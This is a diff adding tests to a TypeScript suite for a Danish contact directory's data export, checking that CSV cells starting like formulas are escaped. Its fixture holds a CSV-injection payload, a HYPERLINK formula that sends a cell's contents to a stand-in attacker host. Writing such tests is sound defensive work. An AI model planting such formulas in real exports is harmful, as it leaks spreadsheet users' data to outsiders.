@@ -224,6 +224,38 @@ describe("what the data package says about the directory", () => {
   });
 });
 
+describe("the data package opened in a spreadsheet", () => {
+  const hostile = contact("ssp-173", {
+    unit: "municipality:101",
+    nameDa: '=HYPERLINK("https://angriber.example/?"&A1,"Ring her")',
+    nameEn: "+SUM(1)",
+    phone: "40 20 71 98",
+    url: "https://www.kk.dk",
+    hoursDa: "@NOW()",
+    verifiedBy: "-2+3",
+  });
+  const hostileFiles = openReferralFiles([hostile], NAMES);
+  const cells = (path: string) => parse(hostileFiles[path]!, { columns: true }) as Record<string, string>[];
+
+  it("writes a name, opening hours or checker that starts like a formula with a leading quote, as the contact file does", () => {
+    expect(cells("services.csv")).toMatchObject([
+      { name: '\'=HYPERLINK("https://angriber.example/?"&A1,"Ring her")', alternate_name: "'+SUM(1)", x_verified_by: "'-2+3" },
+    ]);
+    expect(cells("schedules.csv")).toMatchObject([{ description: "'@NOW()" }]);
+  });
+
+  it("leaves no cell of any file starting like a formula but the phone numbers, which stay as numbers", () => {
+    expect(cells("phones.csv")).toMatchObject([{ number: "+45 40 20 71 98" }]);
+    for (const path of Object.keys(hostileFiles).filter((name) => name.endsWith(".csv"))) {
+      for (const row of cells(path)) {
+        for (const [column, cell] of Object.entries(row)) {
+          if (!(path === "phones.csv" && column === "number")) expect(cell, `${path} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    }
+  });
+});
+
 describe("name-based uuids", () => {
   it("match the version 5 uuids of RFC 9562, as Python's uuid module gives them", () => {
     const dns = "6ba7b810-9dad-11d1-80b4-00c04fd430c8";
